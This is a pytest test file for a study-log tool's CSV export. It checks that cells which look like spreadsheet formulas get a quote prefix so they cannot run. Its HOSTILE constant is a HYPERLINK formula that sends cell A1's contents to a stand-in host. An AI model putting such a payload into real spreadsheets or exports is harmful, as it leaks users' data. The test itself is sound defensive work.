"""Every CSV studylog prints is guarded as export guards its files: text that a spreadsheet
would run as a formula starts with a quote (issue 15, defect 7)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from studylog.text.cells import FORMULA_STARTS, guarded

Ok = Any

HOSTILE = '=HYPERLINK("http://example.com/?x="&A1,"点此")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_guarded_quotes_what_a_spreadsheet_would_run(start: str) -> None:
    assert guarded(f"{start}1+1") == f"'{start}1+1"
    assert guarded("张三") == "张三" and guarded("") == ""


def test_printed_csv_cells_never_start_a_formula(ok: Ok) -> None:
    ok("init", "--org", "某局中心组")
    ok("member", "add", HOSTILE, "--title", "+86 办公室", "--joined", "2023-01-01")
    ok("member", "add", "张三", "--title", "@领导", "--joined", "2023-01-01")
    ok("session", "add", "--date", "2023-03-14", "--title", "-1+1 学习", "--location", "=A1")
    ok("attend", "2023-03-14")
    printed = {
        "member list": ok("member", "list", "--format", "csv"),
        "session list": ok("session", "list", "--year", "2023", "--format", "csv"),
        "stats by member": ok("stats", "--year", "2023", "--by", "member", "--format", "csv"),
    }
    for command, text in printed.items():
        cells = [cell for row in _rows(text) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], command
    members = _rows(printed["member list"])
    assert members[1][:2] == ["'" + HOSTILE, "'+86 办公室"]
    assert "'@领导" in members[2]
    assert any(row[:1] == ["'" + HOSTILE] for row in _rows(printed["stats by member"]))
    # Numbers stay numbers: a count is its digits.
    figures = _rows(ok("stats", "--year", "2023", "--format", "csv"))
    assert ["Sessions", "1"] in figures or any(row[-1] == "1" for row in figures)


def test_the_table_shows_the_text_as_typed(ok: Ok) -> None:
    ok("init", "--org", "某局中心组")
    ok("member", "add", HOSTILE)
    assert HOSTILE in ok("member", "list", "--format", "markdown")
    assert HOSTILE.replace('"', '\\"') in ok("member", "list", "--format", "json")
